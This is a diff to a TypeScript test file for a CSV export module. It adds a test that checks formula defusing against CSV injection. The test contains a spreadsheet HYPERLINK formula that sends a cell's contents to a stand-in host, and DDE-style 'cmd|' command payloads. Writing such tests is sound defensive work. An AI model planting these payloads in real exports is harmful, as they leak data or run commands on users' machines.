@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { csvBytes, csvField, toCsv, UTF8_BOM } from "../../../src/features/evaluation/csv.js";
+import { csvBytes, toCsv, UTF8_BOM, type CsvCell } from "../../../src/features/evaluation/csv.js";
 import { computeStats, parseStatsArgs, type Stats } from "../../../src/features/evaluation/stats.js";
 import { renderStats, statsCsvRows } from "../../../src/features/evaluation/stats-view.js";
 import { createI18n } from "../../../src/i18n.js";
@@ -187,6 +187,9 @@ describe("renderStats", () => {
 });
 
 describe("CSV", () => {
+  /** One cell as it stands in its line. */
+  const csvField = (cell: CsvCell) => toCsv([[cell]]).slice(0, -"\r\n".length);
+
   it("quotes fields with commas, quotes and line breaks, and defuses formulas", () => {
     expect(csvField("plain")).toBe("plain");
     expect(csvField("a,b")).toBe('"a,b"');
@@ -202,6 +205,13 @@ describe("CSV", () => {
     expect(csvField(Number.NaN)).toBe("");
     expect(csvField("卫生死角")).toBe("卫生死角");
     expect(toCsv([["a", 1], ["b,c", null]])).toBe('a,1\r\n"b,c",\r\n');
+  });
+
+  it("keeps a resident's description that begins like a formula text in Excel (OWASP CSV injection)", () => {
+    const description = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
+    const line = toCsv([["R-000042", description]]);
+    expect(line).toBe(`R-000042,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"\r\n`);
+    for (const start of ["+", "-", "@", "\t", "\r", "＝"]) expect(csvField(`${start}cmd|' /C calc'!A0`)).toMatch(/^"?'/);
   });
 
   it("is UTF-8 with a byte order mark, a header row, and the Chinese text intact", () => {
